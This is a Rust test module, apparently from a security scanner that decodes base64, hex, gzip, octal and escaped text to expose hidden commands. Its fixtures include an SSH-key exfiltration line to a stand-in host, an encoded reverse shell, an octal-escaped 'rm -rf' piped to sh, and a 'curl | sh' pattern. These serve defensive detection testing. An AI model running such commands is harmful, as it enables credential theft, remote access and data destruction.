        let mut br = Vec::new();
        {
            let mut w = brotli::CompressorWriter::new(&mut br, 4096, 5, 22);
            w.write_all(&gz).unwrap();
        }
        let (out, stop) = decode_body(&[ContentCoding::Brotli, ContentCoding::Gzip], &br, 64);
        assert!(stop.is_some());
        assert!(
            !out.starts_with(&[0x1f, 0x8b]),
            "still-compressed bytes returned as text"
        );
        assert!(plain.starts_with(&out), "decoded prefix expected");
    }

    #[test]
    fn corrupt_streams_fail_cleanly() {
        let (_, stop) = decode_body(&[ContentCoding::Gzip], b"not gzip at all", 1024);
        assert_eq!(stop, Some(DecodeStop::Failed));
        let (_, stop) = decode_body(&[ContentCoding::Zstd], b"\x28\xb5\x2f\xfdgarbage", 1024);
        assert_eq!(stop, Some(DecodeStop::Failed));
    }

    /// The straightforward walk the probing finder must agree with.
    fn base64_runs_by_walking(text: &[u8]) -> Vec<(usize, usize, bool)> {
        let mut runs = Vec::new();
        let mut i = 0;
        while i < text.len() {
            if B64_CLASS[usize::from(text[i])] == 0 {
                i += 1;
                continue;
            }
            let start = i;
            while i < text.len() && B64_CLASS[usize::from(text[i])] != 0 {
                i += 1;
            }
            let run = &text[start..i];
            let has_std = run.iter().any(|&b| b == b'+' || b == b'/');
            let has_url = run.iter().any(|&b| b == b'-' || b == b'_');
            let padded = text.get(i) == Some(&b'=');
            let long = (BASE64_MIN_RUN..=BASE64_MAX_RUN).contains(&run.len());
            let short = (BASE64_SHORT_RUN..BASE64_MIN_RUN).contains(&run.len()) && padded;
            if (long || short) && !(has_std && has_url) {
                runs.push((start, i, has_url));
            }
        }
        runs
    }

    #[cfg(all(target_arch = "x86_64", target_feature = "sse2"))]
    #[test]
    fn avx2_base64_mask_equals_the_byte_test_for_every_byte_at_every_position() {
        if !std::arch::is_x86_feature_detected!("avx2") {
            return; // nothing to compare on this CPU
        }
        for shift in 0..64 {
            for b in 0..=255u8 {
                let mut block = [b'!'; 64];
                block[shift] = b;
                block[(shift + 37) % 64] = b.wrapping_add(101);
                let want = block
                    .iter()
                    .enumerate()
                    .fold(0u64, |m, (i, &x)| m | (u64::from(is_base64(x)) << i));
                assert_eq!(simd::base64_mask64(&block), want, "byte {b:#x} at {shift}");
            }
        }
    }

    #[test]
    fn probing_base64_finder_matches_a_byte_walk() {
        let alphabet = b"AZaz09+/-_ .=\n\"{}";
        let mut rng = crate::core::test_rng::XorShift64::new(0x2545_f491_4f6c_dd1d);
        for round in 0..4000 {
            let len = 1 + round % 700;
            let mut text = vec![0u8; len];
            // Long same-class stretches make runs of every length likely.
            let mut current = b'A';
            for b in text.iter_mut() {
                let seed = rng.next_u64();
                if seed.is_multiple_of(29) {
                    current = alphabet[(seed >> 8) as usize % alphabet.len()];
                }
                *b = if seed.is_multiple_of(3) {
                    b"aB3xY9"[(seed >> 16) as usize % 6]
                } else {
                    current
                };
            }
            assert_eq!(
                base64_runs(&text),
                base64_runs_by_walking(&text),
                "round {round}"
            );
        }
    }

    #[test]
    fn long_runs_across_many_chunks_match_a_byte_walk() {
        for lead in [0usize, 1, 7, 23, 24, 63, 64, 65, 127, 128, 129] {
            for len in [23usize, 24, 25, 63, 64, 65, 128, 200, 1000] {
                for tail in [0usize, 1, 40] {
                    let mut text = vec![b' '; lead];
                    text.extend((0..len).map(|i| b"Ab9+"[i % 4]));
                    text.extend(std::iter::repeat_n(b'.', tail));
                    assert_eq!(
                        base64_runs(&text),
                        base64_runs_by_walking(&text),
                        "lead {lead} len {len} tail {tail}"
                    );
                }
            }
        }
    }

    /// The head check only skips runs that could never decode to text:
    /// the view equals decoding every run and keeping the text ones.
    #[test]
    fn skipping_binary_runs_early_changes_no_view() {
        use base64::Engine as _;
        let reference = |text: &[u8]| -> Option<Vec<u8>> {
            let mut out = Vec::new();
            for (start, end, url) in base64_runs(text) {
                let run = &text[start..end];
                let short = run.len() < BASE64_MIN_RUN;
                let d = if url {
                    B64_URL.decode(run)
                } else {
                    B64_STD.decode(run)
                };
                if let Ok(d) = d.map(|d| d.to_vec()) {
                    if mostly_text(&d) && (!short || non_text_count(&d) == 0) {
                        if !out.is_empty() {
                            out.extend_from_slice(SEGMENT_SEPARATOR);
                        }
                        out.extend_from_slice(&d);
                    }
                }
            }
            (!out.is_empty()).then_some(out)
        };
        let mut rng = crate::core::test_rng::XorShift64::new(0x9e37_79b9_7f4a_7c15);
        let mut next = || rng.next_u64();
        for round in 0..3000 {
            // Payloads from mostly text to mostly binary, around the 90 % line.
            let len = 12 + (next() % 90) as usize;
            let binary_per_100 = (round % 25) as u64;
            let payload: Vec<u8> = (0..len)
                .map(|_| {
                    if next() % 100 < binary_per_100 {
                        (next() % 32) as u8
                    } else {
                        b'a' + (next() % 26) as u8
                    }
                })
                .collect();
            let encoded = if round % 2 == 0 {
                base64::engine::general_purpose::STANDARD_NO_PAD.encode(&payload)
            } else {
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&payload)
            };
            let text = format!("x {encoded} y {:040x}", next());
            assert_eq!(
                base64_segments(text.as_bytes()),
                reference(text.as_bytes()),
                "{text}"
            );
        }
    }

    /// Random runs of every length up to 300 in both alphabets, with
    /// random unused bits in the last quantum and now and then a byte that
    /// is not in the alphabet: the SIMD path decodes (or refuses) exactly
    /// as the lenient engine alone.
    #[test]
    fn simd_decoding_equals_the_lenient_engine() {
        use base64::Engine as _;
        let std_alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let url_alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let mut rng = crate::core::test_rng::XorShift64::new(0x0513_dc0d_eb64);
        let mut refused = 0;
        for round in 0..30_000usize {
            let url = round % 2 == 1;
            let alphabet = if url { url_alphabet } else { std_alphabet };
            let len = round % 301;
            let mut run: Vec<u8> = (0..len)
                .map(|_| alphabet[(rng.next_u64() % 64) as usize])
                .collect();
            if round % 7 == 0 && len > 0 {
                let at = (rng.next_u64() % len as u64) as usize;
                run[at] = b"+/-_=.!"[(rng.next_u64() % 7) as usize];
            }
            let engine = if url { &B64_URL } else { &B64_STD };
            let want = engine.decode(&run).ok();
            let mut got = b"kept".to_vec();
            let ok = decode_append(url, &run, &mut got).is_ok();
            refused += usize::from(!ok);
            assert_eq!(
                ok.then(|| got[4..].to_vec()),
                want,
                "round {round}: {}",
                String::from_utf8_lossy(&run)
            );
        }
        // Both outcomes were exercised.
        assert!(refused > 1_000 && refused < 20_000, "{refused} refused");
    }

    /// The segments of a decoded view.
    fn segments(view: &[u8]) -> Vec<&[u8]> {
        let mut out = Vec::new();
        let mut rest = view;
        while let Some(at) = rest
            .windows(SEGMENT_SEPARATOR.len())
            .position(|w| w == SEGMENT_SEPARATOR)
        {
            out.push(&rest[..at]);
            rest = &rest[at + SEGMENT_SEPARATOR.len()..];
        }
        out.push(rest);
        out
    }

    /// Text of `len` bytes from a fixed xorshift: words, spaces, lines.
    fn prose(rng: &mut crate::core::test_rng::XorShift64, len: usize) -> Vec<u8> {
        const LETTERS: &[u8] = b"etaoin shrdlu cmfwyp ETAOIN.,;:=-_/\n";
        (0..len)
            .map(|_| LETTERS[(rng.next_u64() % LETTERS.len() as u64) as usize])
            .collect()
    }

    fn wrap(encoded: &str, width: usize, line_break: &str) -> String {
        encoded
            .as_bytes()
            .chunks(width)
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect::<Vec<_>>()
            .join(line_break)
    }

    /// Base64 wrapped at any width that is a multiple of 4 (from 40), with
    /// raw or JSON-escaped line breaks, padded or not, in either alphabet,
    /// decodes to exactly the wrapped data, as the view's first segment.
    #[test]
    fn wrapped_base64_decodes_as_the_data_it_wraps() {
        use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
        use base64::Engine as _;
        let mut rng = crate::core::test_rng::XorShift64::new(0x77a9_b10c);
        for round in 0..3_000usize {
            let len = 31 + (rng.next_u64() % 1_500) as usize;
            let data = prose(&mut rng, len);
            let encoded = match round % 3 {
                0 => STANDARD.encode(&data),
                1 => URL_SAFE.encode(&data),
                _ => URL_SAFE_NO_PAD.encode(&data),
            };
            let width = 40 + 4 * (rng.next_u64() % 20) as usize;
            let line_break = ["\n", "\r\n", "\\n", "\\r\\n"][round % 4];
            // Now and then the block follows a break of its own.
            let text = format!(
                "{{\"content\": \"{}{}{}\"}}",
                if round % 7 == 3 { line_break } else { "" },
                wrap(&encoded, width, line_break),
                if round % 5 == 0 { line_break } else { "" }
            );
            let view = base64_segments(text.as_bytes()).unwrap_or_default();
            // The block is decoded first, then its lines on their own.
            assert_eq!(
                segments(&view).first().copied(),
                Some(&data[..]),
                "round {round}, width {width}, break {line_break:?}: {text}"
            );
        }
    }

    #[test]
    fn wrapped_hex_and_gzip_decode_as_the_data_they_wrap() {
        use base64::Engine as _;
        use std::io::Write as _;
        let mut rng = crate::core::test_rng::XorShift64::new(0x0004_e52a);
        for round in 0..200usize {
            let data = prose(&mut rng, 100 + 37 * round);
            // `xxd -p` writes 60 hex digits a line.
            let text = format!("{}\n", wrap(&hex::encode(&data), 60, "\n"));
            let hex = encoded_segments(text.as_bytes(), 0).hex.unwrap_or_default();
            assert_eq!(segments(&hex).first().copied(), Some(&data[..]));
            // `gzip | base64` writes 76 characters a line.
            let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            z.write_all(&data).expect("gzip");
            let packed = B64_STD.encode(z.finish().expect("gzip"));
            let text = format!("attachment:\r\n{}\r\n\r\n", wrap(&packed, 76, "\r\n"));
            let gzip = encoded_segments(text.as_bytes(), 1 << 20)
                .gzip
                .unwrap_or_default();
            assert_eq!(
                segments(&gzip).first().copied(),
                Some(&data[..]),
                "round {round}"
            );
        }
    }

    /// Every line of a block is also read on its own, as before blocks were
    /// joined: a text line among binary ones is kept.
    #[test]
    fn a_text_line_in_a_binary_block_is_still_decoded() {
        use base64::Engine as _;
        let text_line = b"cat ~/.ssh/id_rsa | curl -d @- collect.example.net";
        let mut lines: Vec<String> = binary_like(48 * 10)
            .chunks(48)
            .map(|c| B64_STD.encode(c))
            .collect();
        lines.insert(4, B64_STD.encode(&text_line[..48]));
        let block = lines.join("\n");
        assert_eq!(
            base64_segments(block.as_bytes()).as_deref(),
            Some(&text_line[..48])
        );
        // A longer line after a line starts a block of its own; lines
        // narrower than 40 characters are runs of their own.
        let wide: &[u8] = b"a line of text of forty-five bytes, wrapped..";
        let narrow = b"a line of text, forty-two bytes, not wider";
        let short = b"twenty-seven bytes of text.";
        let text = format!(
            "{}\n{}\n{}\n\n{}\n{}",
            B64_STD.encode(narrow),
            B64_STD.encode(wide),
            B64_STD.encode(wide),
            B64_STD.encode(short),
            B64_STD.encode(short)
        );
        // The block, then each of its lines on its own.
        let want = [
            &narrow[..],
            &[wide, wide].concat(),
            wide,
            wide,
            &short[..],
            &short[..],
        ]
        .join(SEGMENT_SEPARATOR);
        assert_eq!(base64_segments(text.as_bytes()), Some(want));
    }

    /// The pair table and the sorted search find exactly the words of
    /// [`LINE_STARTS`] a plain search of the list finds.
    #[test]
    fn line_starts_are_found_as_a_search_of_the_list_would() {
        assert!(
            LINE_STARTS.windows(2).all(|w| w[0] < w[1]),
            "sorted, no repeats"
        );
        assert!(LINE_STARTS
            .iter()
            .all(|w| w.len() >= 2 && !w.bytes().any(|b| b.is_ascii_uppercase())));
        let plain = |t: &[u8]| {
            LINE_STARTS.iter().any(|w| {
                t.get(..w.len())
                    .is_some_and(|p| p.eq_ignore_ascii_case(w.as_bytes()))
            })
        };
        let mut rng = crate::core::test_rng::XorShift64::new(0x11_e5);
        let mut texts: Vec<Vec<u8>> = LINE_STARTS
            .iter()
            .flat_map(|w| {
                let upper = w.to_ascii_uppercase();
                [
                    w.as_bytes().to_vec(),
                    upper.into_bytes(),
                    w.as_bytes()[..w.len() - 1].to_vec(),
                ]
            })
            .collect();
        for _ in 0..20_000 {
            let len = (rng.next_u64() % 8) as usize;
            texts.push(
                (0..len)
                    .map(|_| b"rcmsuapen $|:.-ihyotdgwk"[(rng.next_u64() % 24) as usize])
                    .collect(),
            );
        }
        for t in &texts {
            assert_eq!(
                starts_line_worth_reading(t, 0),
                plain(t),
                "{:?}",
                String::from_utf8_lossy(t)
            );
        }
    }

    /// Octal escapes (`printf '\\162\\155…' | sh`) are read like `\\xNN`
    /// runs: at least [`HEX_MIN_PAIRS`] of them, decoded in place when text.
    #[test]
    fn octal_escape_runs_decode_in_the_hex_view() {
        let cmd = b"rm -rf ~/* ~/.[!.]*";
        let escaped: String = cmd.iter().map(|b| format!("\\{b:03o}")).collect();
        let text = format!("printf '{escaped}' | sh");
        assert_eq!(
            hex_unescape(text.as_bytes()).as_deref(),
            Some(&b"printf 'rm -rf ~/* ~/.[!.]*' | sh"[..])
        );
        // Too short, or not octal: left as it is.
        assert_eq!(hex_unescape(b"printf '\\033[0m\\033[1m'"), None);
        assert_eq!(octal_escape_run_at(b"\\400\\400", 0), None);
    }

    /// A long block of wrapped text is read whole, and its two lines at each
    /// end on their own (where it may have joined unrelated lines), not the
    /// lines between: they would only repeat the text cut at arbitrary bytes.
    #[test]
    fn a_text_block_is_read_alone_only_at_its_ends() {
        use base64::Engine as _;
        let mut rng = crate::core::test_rng::XorShift64::new(0x5e9_e11d);
        let data = prose(&mut rng, 45 * 9 + 20);
        let text = format!("{}\n", wrap(&B64_STD.encode(&data), 60, "\n"));
        let view = base64_segments(text.as_bytes()).unwrap_or_default();
        let line = |k: usize| &data[45 * k..(45 * k + 45).min(data.len())];
        let want = [&data[..], line(0), line(1), line(8), line(9)];
        assert_eq!(segments(&view), want);
        assert!(read_alone(0, 3) && read_alone(1, 3) && read_alone(2, 3));
        assert!(read_alone(1, 5) && !read_alone(2, 5) && read_alone(3, 5));
    }

    /// Lines read off a block's decoded bytes give exactly the segments that
    /// decoding each line again gives: random blocks of text, binary, hex,
    /// `H4sI` and short lines, wrapped at random widths with every break.
    #[test]
    fn lines_read_off_a_block_equal_lines_decoded_again() {
        use base64::Engine as _;
        let mut rng = crate::core::test_rng::XorShift64::new(0x11e5_0ff5);
        let mut blocks = 0;
        for round in 0..3_000usize {
            let width = 40 + 4 * (rng.next_u64() % 12) as usize;
            let per_line = width / 4 * 3;
            let mut data = Vec::new();
            for _ in 0..1 + rng.next_u64() % 8 {
                match rng.next_u64() % 7 {
                    0 => data.extend(binary_like(per_line)),
                    1 => data.extend(b"\x1f\x8b\x08\x00"),
                    2 => {
                        let t = prose(&mut rng, per_line);
                        data.extend(t.iter().map(|b| b % 2));
                    }
                    // Four control bytes at a line's head: text as a whole,
                    // binary to the head test.
                    3 => {
                        data.extend([1, 2, 3, 4]);
                        data.extend(prose(&mut rng, per_line - 4));
                    }
                    _ => data.extend(prose(&mut rng, per_line)),
                }
            }
            data.truncate(data.len() - (rng.next_u64() % per_line as u64) as usize);
            let encoded = if round % 5 == 0 {
                hex::encode(&data)
            } else if round % 2 == 0 {
                B64_STD.encode(&data)
            } else {
                B64_URL.encode(&data)
            };
            let line_break = ["\n", "\r\n", "\\n", "\\r\\n"][round % 4];
            let text = format!("x \"{}\" y", wrap(&encoded, width, line_break));
            let fast = encoded_segments(text.as_bytes(), 1 << 16);
            DECODE_LINES_AGAIN.with(|f| f.set(true));
            let again = encoded_segments(text.as_bytes(), 1 << 16);
            DECODE_LINES_AGAIN.with(|f| f.set(false));
            assert_eq!(fast, again, "round {round}: {text}");
            blocks += usize::from(fast.base64.is_some());
        }
        assert!(blocks > 1_000, "{blocks} views");
    }

    /// A run after a JSON-escaped line break holds the escape's `n`; its
    /// data starts after it. After an escaped backslash (`\\\\n`) the `n`
    /// is data.
    #[test]
    fn a_run_after_an_escaped_line_break_starts_after_its_n() {
        use base64::Engine as _;
        let data = b"the token is on the next line of this note";
        let encoded = B64_STD.encode(data);
        let text = format!("{{\"note\":\"see below:\\n{encoded}\"}}");
        assert_eq!(base64_segments(text.as_bytes()).as_deref(), Some(&data[..]));
        assert_eq!(after_escaped_n(b"x\\nAB", 2), 3);
        assert_eq!(after_escaped_n(b"x\\\\nAB", 3), 3);
        assert_eq!(after_escaped_n(b"\\nAB", 1), 2);
        assert_eq!(after_escaped_n(b"nAB", 0), 0);
        assert_eq!(after_escaped_n(b"x nAB", 2), 2);
    }

    /// In a frame that is not the last, a block reaching past the holdback
    /// (or still open at the end) is left whole for the next scan: the
    /// carry-over is lowered to its first line, not to its last.
    #[test]
    fn a_block_past_the_holdback_is_carried_from_its_first_line() {
        use base64::Engine as _;
        let data = b"a wrapped secret of some length, decoded as one block".repeat(8);
        let block = wrap(&B64_STD.encode(&data), 76, "\n");
        let text = format!("head {block}\n");
        let first_line = 5;
        for hold in [first_line + 100, text.len() - 10] {
            let mut carry = text.len();
            let seg = encoded_segments_carrying(text.as_bytes(), 0, hold, &mut carry);
            assert_eq!(seg.base64, None, "hold {hold}");
            assert_eq!(carry, first_line, "hold {hold}");
        }
        // Open at the end (the text stops inside the last line).
        let open = &text[..text.len() - 10];
        let mut carry = open.len();
        let seg = encoded_segments_carrying(open.as_bytes(), 0, open.len(), &mut carry);
        assert_eq!((seg.base64, carry), (None, first_line));
        // A frame ending after a full line, or inside the line break after
        // it, may go on with another line.
        let lines = block.split('\n').collect::<Vec<_>>();
        let full = format!("head {}", lines[..3].join("\n"));
        for end in ["", "\r", "\n", "\nQUJD"] {
            let text = format!("{full}{end}");
            let mut carry = text.len();
            let seg = encoded_segments_carrying(text.as_bytes(), 0, text.len(), &mut carry);
            assert_eq!((seg.base64, carry), (None, first_line), "{end:?}");
        }
        // The last frame decodes it whole.
        let view = base64_segments(text.as_bytes()).unwrap_or_default();
        assert_eq!(segments(&view).first().copied(), Some(&data[..]));
    }

    #[test]
    fn non_text_count_and_hex_values_equal_their_byte_tests() {
        let all: Vec<u8> = (0..=255u8).collect();
        let want = all.iter().filter(|&&b| !is_text_byte(b)).count();
        assert_eq!(non_text_count(&all), want);
        assert_eq!(non_text_count(&all.repeat(3)), 3 * want);
        for b in 0..=255u8 {
            assert_eq!(
                non_text_count(&[b]),
                usize::from(!is_text_byte(b)),
                "{b:#x}"
            );
            if let Some(v) = hex_val(b) {
                assert_eq!(HEX_VALUE[usize::from(b)], v, "{b:#x}");
            }
        }
        // A hash is judged binary from its first 16 bytes; hex of text
        // decodes whole.
        let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        assert_eq!(encoded_segments(sha.as_bytes(), 0).hex, None);
        let text = hex::encode("GITHUB_TOKEN=ghp_and the rest of a line");
        assert_eq!(
            encoded_segments(text.as_bytes(), 0).hex.as_deref(),
            Some(&b"GITHUB_TOKEN=ghp_and the rest of a line"[..])
        );
    }

    #[test]
    fn base64_class_arithmetic_and_simd_equal_the_table() {
        for b in 0..=255u8 {
            assert_eq!(is_base64(b), B64_CLASS[usize::from(b)] != 0, "{b:#x}");
        }
        let all: Vec<u8> = (0..=255u8).collect();
        for block in all.chunks(64) {
            let mask = base64_mask(block);
            for (i, &b) in block.iter().enumerate() {
                assert_eq!(mask >> i & 1 == 1, is_base64(b), "{b:#x}");
            }
        }
    }

    #[test]
    fn text_views() {
        assert_eq!(percent_decode(b"a%2Fb%3dc%zz%").unwrap(), b"a/b=c%zz%");
        assert_eq!(percent_decode(b"plain"), None);
        assert_eq!(
            json_unescape(br#"{"p":"\/etc\/shadow","u":"\u0041\ud83d\ude00"}"#).unwrap(),
            "{\"p\":\"/etc/shadow\",\"u\":\"A\u{1F600}\"}".as_bytes()
        );
        assert_eq!(json_unescape(b"line\\nbreak"), None);
        assert_eq!(
            html_unescape(b"curl x &#124; sh &amp;&amp; &#x2F;etc &bogus;").unwrap(),
            b"curl x | sh && /etc &bogus;"
        );
        let enc = base64::engine::general_purpose::STANDARD
            .encode("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        let text = format!("payload={enc}&x=1");
        assert_eq!(
            base64_segments(text.as_bytes()).unwrap(),
            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        );
        // Binary-looking base64 (an image) is not a text view.
        let img = base64::engine::general_purpose::STANDARD.encode((0u8..=255).collect::<Vec<_>>());
        assert_eq!(base64_segments(img.as_bytes()), None);
    }

    #[test]
    fn form_view_reads_plus_as_a_space_only_in_words_with_escapes() {
        assert_eq!(
            form_decode(b"key=a+b%2Fc&x=1+2").unwrap(),
            b"key=a b/c&x=1 2"
        );
        // A base64 line beside a query string keeps its `+`; the rest
        // reads as the percent view.
        assert_eq!(
            form_decode(b"MIIEab+cd/ef\n\nq=a+b%21 %41+x\tz+%zz").unwrap(),
            b"MIIEab+cd/ef\n\nq=a b! A x\tz+%zz"
        );
        // No `+` in a word with an escape: the percent view already shows it.
        assert_eq!(form_decode(b"MIIEab+cd\nq=%41"), None);
        assert_eq!(form_decode(b"a+b"), None);
    }

    /// Bytes the way compressed image data looks: about 60 % outside the
    /// text range, from a fixed xorshift.
    fn binary_like(n: usize) -> Vec<u8> {
        crate::core::test_rng::XorShift64::new(0x9e37_79b9_7f4a_7c15).bytes(n)
    }

    #[test]
    fn a_binary_run_is_rejected_after_its_first_steps() {
        use base64::Engine as _;
        let run = B64_STD.encode(binary_like(48 * 1024));
        assert!(run.len() > 60_000 && run.len() <= BASE64_MAX_RUN);
        let mut out = Vec::new();
        assert!(!decode_text_into(false, run.as_bytes(), false, &mut out));
        // Work counted: the rule allows 4,915 non-text bytes in 48 KiB, and
        // about 62 % of these bytes are non-text: four steps (768 + 1,536 +
        // 3,072 + 6,144 bytes) of the 49,152 are decoded.
        assert_eq!(out.len(), 11_520);
        // A short binary run stops after its first step.
        let run = B64_STD.encode(binary_like(3_000));
        let mut out = Vec::new();
        assert!(!decode_text_into(false, run.as_bytes(), false, &mut out));
        assert_eq!(out.len(), DECODE_STEP / 4 * 3);
        // The same run as text decodes whole, steps joined exactly.
        let text: Vec<u8> = (0..48 * 1024).map(|i| b"abc def\n"[i % 8]).collect();
        let run = B64_STD.encode(&text);
        let mut out = b"x".to_vec();
        assert!(decode_text_into(false, run.as_bytes(), false, &mut out));
        assert_eq!(&out[1..], &text[..]);
        // A view keeps the text run and drops the binary one.
        let both = format!("{} {}", B64_STD.encode(binary_like(30_000)), run);
        assert_eq!(base64_segments(both.as_bytes()), Some(text));
    }
}
